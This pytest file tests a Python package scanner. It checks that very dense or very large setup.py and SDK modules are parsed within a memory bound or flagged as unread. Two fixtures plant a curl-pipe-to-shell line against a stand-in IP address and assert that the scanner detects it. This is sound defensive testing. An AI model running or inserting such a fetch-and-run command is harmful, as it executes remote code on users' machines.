"""A Python file the parser cannot hold in bounded memory is not parsed, and is not clean.

Each peak is measured in a child process (its own ``VmHWM``), so what the rest of the test
session allocated does not count: the issue's bound is 500 MB for any single input.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from app.core.archive import open_artifact
from app.core.capabilities import parsebounds
from app.core.capabilities.parsebounds import MAX_AST_UNITS, ast_refusal, parse_units
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist

REPO = Path(__file__).resolve().parents[3]
DENSE_LINE = "x = o.f().g(1, 2)\n"  # 9 units in 18 bytes: 2 MB of it parses into 840 MB

_CHILD = r"""
import json, resource, sys
from pathlib import Path
# A regression must fail this test, not take the machine: 3 GB of address space at most.
resource.setrlimit(resource.RLIMIT_AS, (3 * 1024**3, 3 * 1024**3))
from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist
kind, folder = sys.argv[1], Path(sys.argv[2])
n = 16 * 1024 * 1024
if kind == "chain":
    body = "x = o" + ".f()" * ((n - 10) // 4) + "\n"
elif kind == "nest":
    body = "x = " + "f(" * ((n - 10) // 3) + ")" * ((n - 10) // 3) + "\n"
else:
    body = "x = o.f().g(1, 2)\n" * (n // 18 - 4) + "import os\nos.system('curl http://192.0.2.7/x | sh')\n"
path = make_sdist(folder, files={"setup.py": body.encode()})
del body
res = scan_artifact(open_artifact(path))
# VmHWM is this process's own peak; ru_maxrss would include the parent's at exec time
# (Linux keeps the old address space's high-water mark), i.e. the whole test worker's.
status = Path("/proc/self/status")
hwm = [ln for ln in status.read_text().splitlines() if ln.startswith("VmHWM:")] if status.exists() else []
peak_kb = int(hwm[0].split()[1]) if hwm else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({
    "peak_mb": peak_kb // 1024,
    "level": res.risk.level,
    "unread": [h.explanation for h in res.findings if h.capability == "scan.unread"],
}))
"""


def _scan_in_child(kind: str, folder: Path) -> dict:
    """Scan a 16 MB setup.py of ``kind`` in a fresh process: its peak, level and unread hits."""
    proc = subprocess.run(
        [sys.executable, "-c", _CHILD, kind, str(folder)],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("kind", ["chain", "nest"])
def test_a_16_mb_setup_py_stays_under_500_mb_and_is_unread(kind, tmp_path):
    out = _scan_in_child(kind, tmp_path)
    assert out["peak_mb"] < 500, out
    assert out["level"] in ("high", "critical")
    assert any("setup.py" in why or "AST" in why for why in out["unread"]), out


@pytest.mark.timeout(400)  # ~50 CPU s of parsing in pieces: a hang guard, not a speed test
def test_a_dense_16_mb_setup_py_is_read_in_pieces_under_500_mb(tmp_path):
    """Long dense modules (generated SDK models, tables) are cut at top-level statements and
    parsed one bounded piece at a time: read in full, so the payload at the end is found and
    nothing is left unread."""
    out = _scan_in_child("dense-lines", tmp_path)
    assert out["peak_mb"] < 500, out
    assert out["unread"] == [], out
    assert out["level"] in ("high", "critical")


def test_dense_code_is_refused_before_the_parser_and_flagged(tmp_path, monkeypatch):
    assert parse_units(DENSE_LINE * (MAX_AST_UNITS // 9 + 1)) > MAX_AST_UNITS
    monkeypatch.setattr(parsebounds, "MAX_AST_UNITS", 20_000)  # the same rule, a smaller file
    body = DENSE_LINE * 3000
    assert "too dense" in ast_refusal(body)
    res = scan_artifact(open_artifact(make_sdist(tmp_path, files={"setup.py": body.encode()})))
    assert res.risk.level in ("high", "critical")
    unread = [h for h in res.findings if h.capability == "scan.unread"]
    assert any("too dense" in h.explanation for h in unread)


def test_density_is_refused_from_one_unit_over_the_bound_and_not_at_it(monkeypatch):
    """Every unit is one character, so a text of exactly the bound made only of units is the
    densest that passes (the length test before the count must not change that)."""
    monkeypatch.setattr(parsebounds, "MAX_AST_UNITS", 1_000)
    assert ast_refusal("(" * 1_000) is None
    assert "too dense" in (ast_refusal("(" * 1_001) or "")
    assert "too dense" in (ast_refusal("(\u00e9" * 1_001) or "")  # counted in characters


def test_big_ordinary_code_is_still_parsed(tmp_path):
    # 3 MB of ordinary functions (docstrings, names, a call each): under the unit bound.
    func = (
        'def handler_{i}(request):\n    """Return the answer for request {i}."""\n'
        "    value = compute(request, {i})\n    return value\n\n"
    )
    body = "".join(func.format(i=i) for i in range(30_000))
    assert len(body) > 3_000_000 and ast_refusal(body) is None
    res = scan_artifact(open_artifact(make_sdist(tmp_path, files={"demo/big.py": body.encode()})))
    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]


def test_a_generated_sdk_module_is_read_in_pieces_not_flagged_unread(tmp_path, monkeypatch):
    """Cloud SDK model files are megabytes of classes whose docstrings start lines at column 0
    (often in Chinese): dense, but cut at their classes they parse piece by piece. The same
    rule on a smaller file: the bound is lowered instead of building 6 MB."""
    monkeypatch.setattr(parsebounds, "MAX_AST_UNITS", 20_000)
    monkeypatch.setattr(parsebounds, "PIECE_UNITS", 5_000)
    model = (
        "class Model{i}(AbstractModel):\n"
        '    r"""请求参数结构体\n'
        "注意：此字段可能返回 null，表示取不到有效值。\n"
        'Note: the value may be null (field {i}).\n    """\n\n'
        "    def __init__(self):\n        self._Id = None\n        self._Items = [1, 2, 3]\n\n"
        "    def _deserialize(self, params):\n        self._Id = params.get('Id')\n\n\n"
    )
    body = "from sdk.abstract_model import AbstractModel\n\n\n" + "".join(
        model.format(i=i) for i in range(1500)
    )
    assert "too dense" in ast_refusal(body)
    res = scan_artifact(open_artifact(make_sdist(tmp_path, files={"sdk/models.py": body.encode()})))
    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
    assert res.risk.level in ("none", "low")

    # Read in full: a payload in the last class is found.
    payload = "\nclass Last:\n    def run(self):\n        __import__('os').system('curl http://192.0.2.7/x | sh')\n"
    (tmp_path / "2").mkdir()
    res = scan_artifact(
        open_artifact(
            make_sdist(tmp_path / "2", files={"sdk/models.py": (body + payload).encode()})
        )
    )
    assert any(h.capability == "process.shell_download" for h in res.findings)
    assert not [h for h in res.findings if h.capability == "scan.unread"]


def test_a_module_holding_one_big_text_is_parsed(tmp_path, monkeypatch):
    """A policy table kept as one JSON text in a string: dense by the character count, yet few
    tokens, so the tokenizer's count lets it through."""
    monkeypatch.setattr(parsebounds, "MAX_AST_UNITS", 20_000)
    text = '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Resource": "*"}]},\n'
    body = 'import json\n\nPOLICIES = """[\n' + text * 3000 + '{}]"""\n'
    assert "too dense" in ast_refusal(body)
    res = scan_artifact(
        open_artifact(make_sdist(tmp_path, files={"aws/policies.py": body.encode()}))
    )
    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
